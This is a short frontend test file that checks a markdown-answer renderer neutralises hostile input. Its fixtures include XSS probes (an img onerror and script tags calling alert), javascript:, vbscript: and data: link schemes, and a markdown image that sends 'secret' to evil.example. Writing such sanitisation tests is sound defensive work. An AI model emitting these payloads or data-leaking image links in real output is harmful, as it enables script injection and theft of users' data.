import { render, screen } from '@testing-library/react';
import { expect, test } from 'vitest';
import AnswerMarkdown from './markdown.tsx';

test('markdown becomes text with marks and lists', () => {
  render(<AnswerMarkdown text={'**Buy milk**\n\n1. one\n2. two'} />);
  expect(screen.getByText('Buy milk').tagName).toBe('STRONG');
  expect(screen.getAllByRole('listitem')).toHaveLength(2);
});

test('HTML stays text', () => {
  const { container } = render(
    <AnswerMarkdown text={'<img src=x onerror="alert(1)"> <script>alert(1)</script>'} />,
  );
  expect(container.querySelector('img, script')).toBeNull();
  expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
});

test.each([
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
])('a link to %s leads nowhere', (address) => {
  const { container } = render(<AnswerMarkdown text={`[click](<${address}>)`} />);
  expect(container.querySelector('a')?.getAttribute('href') ?? '').toBe('');
});

test('a link opens apart and tells nothing about this page', () => {
  render(<AnswerMarkdown text="[docs](https://example.com/a)" />);
  const link = screen.getByRole('link', { name: 'docs' });
  expect([link.getAttribute('href'), link.getAttribute('rel')]).toEqual([
    'https://example.com/a',
    'noopener noreferrer nofollow',
  ]);
});

test('a picture is not fetched', () => {
  const { container } = render(<AnswerMarkdown text="![your secrets](https://evil.example/?q=secret)" />);
  expect([container.querySelector('img'), container.textContent]).toEqual([null, 'your secrets']);
});
